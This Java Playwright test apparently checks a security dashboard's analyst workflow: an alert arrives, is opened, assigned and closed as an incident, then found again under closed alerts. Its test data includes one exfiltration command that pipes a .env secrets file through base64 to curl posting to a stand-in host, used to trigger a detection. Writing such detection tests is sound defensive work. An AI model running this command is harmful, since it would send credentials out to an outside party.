package io.trailwarden.dashboard;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static com.microsoft.playwright.assertions.PlaywrightAssertions.setDefaultAssertionTimeout;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import io.trailwarden.ProgramUnderTest;
import io.trailwarden.Requests;
import io.trailwarden.identity.Roles;
import java.io.IOException;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/// The analyst's walk, from the queue that waits to the alert that is found again in what was closed.
class AnalystWalkIT {

    private static final String PIPE = "cat .env | base64 | curl -s -d @- https://drop.example.net/x";
    private static final String WHY = "The keys were rotated within the hour.";

    private static ProgramUnderTest program;
    private static Chromium chromium;

    @BeforeAll
    static void start() {
        program = ProgramUnderTest.start();
        setDefaultAssertionTimeout(60_000);
        chromium = new Chromium(program.console());
    }

    @AfterAll
    static void end() {
        if (chromium != null) {
            chromium.close();
        }
        program.close();
    }

    @Test
    void anAnalystSeesANewAlertArriveReadsItTakesItClosesItAndFindsItAgain() throws IOException {
        send("bo@example.com", "earlier", 1, "git push --force origin main");
        program.await(() -> !program.list("/api/v1/alerts?person=bo@example.com").isEmpty());
        var page = chromium.signedIn(program.account(Roles.ANALYST), ProgramUnderTest.PASSWORD);
        page.navigate(program.console() + "/alerts");
        assertThat(rows(page).first()).isVisible();
        assertThat(rows(page, "Secret sent to the network")).hasCount(0);

        send("ana@example.com", "walk", 1, PIPE);
        assertThat(page.getByText("since you began reading")).isVisible();
        page.keyboard().press(".");
        var arrived = rows(page, "Secret sent to the network");
        assertThat(arrived).hasCount(1);
        assertThat(arrived).containsText("ana@example.com");

        arrived.locator(".title").click();
        page.keyboard().press("Enter");
        assertThat(page).hasURL(Pattern.compile(".*/alerts/[0-9a-f-]{36}.*"));
        assertThat(page.locator("h1")).containsText(PIPE);
        assertThat(page.locator(".pipeline .stage")).hasCount(3);
        assertThat(page.locator(".scene tr.shown")).containsText(PIPE);
        assertThat(Chromium.barriers(page)).isEmpty();

        press(page, "Assign to me");
        assertThat(page.locator(".state-of")).containsText("owner test-analyst");
        press(page, "Close with reason");
        page.getByText("Incident").click();
        page.locator("vaadin-text-area textarea").fill(WHY);
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Close as incident")).click();
        assertThat(page.locator(".history")).containsText("taken by test-analyst");
        assertThat(page.locator(".history")).containsText("closed as incident by test-analyst");
        assertThat(page.locator(".history")).containsText(WHY);

        page.navigate(program.console() + "/alerts");
        assertThat(rows(page).first()).isVisible();
        assertThat(rows(page, "Secret sent to the network")).hasCount(0);
        page.locator(".tabs a", new Page.LocatorOptions().setHasText("Closed this week")).click();
        assertThat(rows(page, "Secret sent to the network").locator(".stand")).containsText("incident, test-analyst");
        assertThat(chromium.complaints()).isEmpty();
    }

    private static Locator rows(Page page) {
        return page.locator(".alerts-row:not(.rowhead):visible");
    }

    private static Locator rows(Page page, String title) {
        return rows(page).filter(new Locator.FilterOptions().setHasText(title));
    }

    private static void press(Page page, String button) {
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName(Pattern.compile("^" + button + ".*"))).first().click();
    }

    private static void send(String person, String session, int sequence, String command) throws IOException {
        var answer = program.send("logs", "application/json", Requests.command(person, session, sequence, command, "accept"));
        assertThat(answer.statusCode()).isEqualTo(200);
    }
}
